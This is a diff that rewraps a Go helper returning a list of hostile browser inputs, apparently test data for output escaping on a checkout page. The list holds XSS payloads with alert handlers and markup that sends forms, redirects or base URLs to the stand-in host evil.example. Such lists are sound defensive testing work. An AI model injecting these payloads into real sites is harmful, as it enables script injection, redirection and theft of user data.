@@ -13,12 +13,16 @@ import (
 // hostile are texts that browsers read in ways of their own. The long list is in checkout/page.
 func hostile() []string {
 	return []string{
-		`</script><img src=x onerror=alert(1)>`, `"><svg/onload=alert(1)>`, `' onmouseover='alert(1)' autofocus onfocus='alert(1)`,
+		`</script><img src=x onerror=alert(1)>`, `"><svg/onload=alert(1)>`,
+		`' onmouseover='alert(1)' autofocus onfocus='alert(1)`,
 		`<noscript><p title="</noscript><img src=x onerror=alert(1)>">`, `</title><style>*{display:none}</style>`,
 		`<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">`,
-		`</bdi></p></section></main></body><form action=//evil.example><button>`, `<template><iframe srcdoc="<script>alert(1)</script>">`,
-		`<meta http-equiv=refresh content="0;url=//evil.example">`, `<base href=//evil.example><link rel=stylesheet href=//evil.example>`,
-		`</textarea></select></option><plaintext>`, "`${alert(1)}`{{.}}\u2028<b>", `&lt;img src=x onerror=alert(1)&gt;`, `<details open ontoggle=alert(1)>`,
+		`</bdi></p></section></main></body><form action=//evil.example><button>`,
+		`<template><iframe srcdoc="<script>alert(1)</script>">`,
+		`<meta http-equiv=refresh content="0;url=//evil.example">`,
+		`<base href=//evil.example><link rel=stylesheet href=//evil.example>`,
+		`</textarea></select></option><plaintext>`, "`${alert(1)}`{{.}}\u2028<b>", `&lt;img src=x onerror=alert(1)&gt;`,
+		`<details open ontoggle=alert(1)>`,
 	}
 }
 
